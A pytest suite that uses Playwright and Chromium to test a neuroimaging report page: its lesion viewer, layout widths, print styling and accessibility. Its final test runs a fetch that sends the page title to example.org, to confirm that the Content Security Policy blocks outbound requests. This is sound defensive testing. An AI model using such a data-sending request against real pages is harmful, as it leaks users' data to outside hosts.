"""A participant's page in a real Chromium, opened as a file: its viewer, its widths, on paper."""

import io
import json
import re

import fabricate
import nibabel as nib
import numpy as np
import pytest
from PIL import Image
from waiting import until

from cmburden.cohort import stage as aggregate
from cmburden.core.tables import LESIONS
from cmburden.report import stage as report
from cmburden.verify import planes as lesion_planes
from cmburden.verify import viewer

PERSON = "sub-OATS007"
#: Voxels of 2 x 2 x 3 mm, not cubes, and turned by 0.3 rad about x and 0.1 about z: a viewer that
#: takes it for a straight grid is off by a centimetre.
TURN = nib.eulerangles.euler2mat(0.1, 0, 0.3)
AFFINE = nib.affines.from_matvec(TURN @ np.diag([2.0, 2.0, 3.0]))
AFFINE[:3, 3] = -AFFINE[:3, :3] @ [36, 36, 24]


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A cohort whose person OATS007 has a scan with lesions where the table says."""
    made = fabricate.cohort(tmp_path_factory.mktemp("scan"), participants=12)
    aggregate.run(made.layout, made.bids_dir, made.config)
    lesions = LESIONS.read(made.layout.table("lesions"))
    for row in made.scans:
        if row["participant_id"] == PERSON:
            own = lesions[lesions["scan_id"] == row["scan_id"]].to_dict("records")
            _figures(made.layout, fabricate.scan_object(row, made.bids_dir), own)
    report.run(made.layout, made.config)
    return made


def _figures(layout, scan, own):
    shape = (72, 73, 48)
    grid = np.stack(np.meshgrid(*map(np.arange, shape), indexing="ij"), -1) @ AFFINE[:3, :3].T
    place = grid + AFFINE[:3, 3]
    mask = (place**2).sum(-1) < 66**2
    volume = mask * np.random.default_rng(0).normal(1, 0.05, shape).astype(np.float32)
    labels = np.zeros(shape, np.int16)
    for lesion in own:
        centre = [lesion[axis] for axis in ("x_mm", "y_mm", "z_mm")]
        inside = ((place - centre) ** 2).sum(-1) < 4**2
        volume[inside], labels[inside] = 0.2, lesion["lesion_id"]
    regions = np.where(place[..., 0] > 0, 109, 9) * mask
    nib.Nifti1Image(volume, AFFINE).to_filename(_parent(layout.preproc(scan)))
    shown = viewer.Shown(volume, mask, regions, labels, AFFINE)
    viewer.write(layout.viewer(scan), scan.scan_id, shown)
    lesion_planes.draw(volume, AFFINE, own, layout.lesion_planes(scan))


def _parent(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def test_a_click_on_a_lesion_opens_the_viewer_at_it(made, opened):
    watched = opened(made.layout.subject_page(PERSON))
    page = watched.page
    buttons = page.locator("button.show")
    assert buttons.count() > 1
    for place in (0, buttons.count() - 1):
        button = buttons.nth(place)
        wanted = np.array(json.loads(button.get_attribute("data-at")))
        box = page.locator(f"#{button.get_attribute('data-viewer')}")
        number = re.search(r"lesion (\d+)", button.inner_text())[1]
        button.click()
        until(
            page,
            "([id, n]) => document.querySelector(`#${id} output.place`).value"
            ".includes(`lesion ${n},`)",
            [button.get_attribute("data-viewer"), number],
        )
        said = box.locator("output.place").inner_text().replace("−", "-")
        shown = np.array([float(part) for part in re.findall(r"-?\d+\.\d", said)[:3]])
        # The viewer may sit on the nearest voxel: half a voxel off at most.
        off = np.linalg.solve(AFFINE[:3, :3], shown - wanted)
        assert (abs(off) <= 0.6).all(), (shown, wanted)
        assert box.locator("canvas").first.is_visible()
    assert watched.errors == [] and watched.from_network == []


def test_the_viewer_shows_the_scan_with_the_lesion_under_the_crosshair(made, opened):
    page = opened(made.layout.subject_page(PERSON)).page
    page.locator("button.show").first.click()
    until(page, "() => document.querySelector('.viewer output.place').value !== ''")
    page.wait_for_timeout(500)
    picture = page.locator(".viewer [data-pane=axial] canvas").first.screenshot()
    grey = np.asarray(Image.open(io.BytesIO(picture)).convert("RGB"), float)
    assert (grey.std(-1) < 4).mean() > 0.5 and np.percentile(grey, 90) > 100  # a brain, in grey
    middle = grey[grey.shape[0] // 2, grey.shape[1] // 2]
    assert middle.max() < 60, "the cross or the outline lies on the dark spot"
    amber = (grey[..., 0] > 100) & (grey[..., 2] < 0.6 * grey[..., 0])
    blue = (grey[..., 2] > 100) & (grey[..., 0] < 0.8 * grey[..., 2])
    assert amber.sum() + blue.sum() > 20  # the lesion's overlay


def test_next_reset_and_keys_of_the_viewer(made, opened):
    page = opened(made.layout.subject_page(PERSON)).page
    box = page.locator(".viewer").first
    place = box.locator("output.place")
    page.locator("button.show").first.click()
    until(page, "document.querySelector('output.place').value !== ''")
    first = place.inner_text()
    box.locator("[data-do=on]").click()
    second = place.inner_text()
    assert "left frontal (lobar); lesion 1" in first and "lesion 2" in second
    box.locator("canvas").first.press("ArrowLeft")
    assert place.inner_text() == first
    top = page.evaluate("scrollY")
    box.locator("canvas").first.press("ArrowUp")
    assert place.inner_text() != first and page.evaluate("scrollY") == top
    box.locator("canvas").first.press("v")  # no secret key
    box.locator("[data-do=reset]").click()
    assert place.inner_text() == first


@pytest.mark.parametrize("width", [360, 700, 768, 1024, 1920])
def test_no_text_is_squeezed_and_nothing_sticks_out(made, opened, width):
    page = opened(made.layout.subject_page(PERSON), width=width).page
    page.locator("button.show").first.click()
    until(page, "document.querySelector('output.place').value !== ''")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    squeezed = page.evaluate(
        """() => [...document.querySelectorAll('p, dd, li, h1, h2, h3, h4, figcaption')].filter(e =>
        e.offsetParent && !e.closest('.scroll') && e.textContent.trim().length > 60
        && e.getBoundingClientRect().width < 200).map(e => e.textContent.slice(0, 40))"""
    )
    assert squeezed == []


def test_on_paper_a_lesion_is_not_cut(made, opened):
    page = opened(made.layout.subject_page(PERSON), width=700).page
    page.emulate_media(media="print")
    facts = page.locator("li.lesion dl.facts")
    assert min(facts.nth(k).bounding_box()["width"] for k in range(facts.count())) > 500
    assert (
        facts.count()
        and page.locator("li.lesion").first.evaluate("e => getComputedStyle(e).breakInside")
        == "avoid"
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_serious_fault(made, opened, axe, scheme):
    page = opened(made.layout.subject_page(PERSON), scheme=scheme).page
    assert axe(page) == []
    page.locator("button.show").first.click()
    until(page, "() => document.querySelector('.viewer output.place').value !== ''")
    assert axe(page) == []


def test_every_lesion_stands_in_three_planes_and_a_projection(made, opened):
    page = opened(made.layout.subject_page(PERSON)).page
    lesions = LESIONS.read(made.layout.table("lesions"))
    own = lesions[lesions["participant_id"] == PERSON]
    assert page.locator("li.lesion").count() == len(own)
    assert page.locator("li.lesion .tile img").count() == 4 * len(own)
    page.evaluate("document.querySelectorAll('img').forEach(i => i.loading = 'eager')")
    until(page, "() => [...document.images].every(i => i.complete)")
    assert page.evaluate("[...document.images].every(i => i.naturalWidth > 0)")


def test_no_page_can_send_anything(made, opened):
    """Were a name in a table ever to become a script, it could reach no server."""
    watched = opened(made.layout.subject_page(PERSON))
    refused = watched.page.evaluate(
        """() => new Promise((done) => {
          addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
          fetch("https://example.org/?" + document.title).catch(() => null);
        })"""
    )
    assert refused == "connect-src"
    assert watched.from_network == []
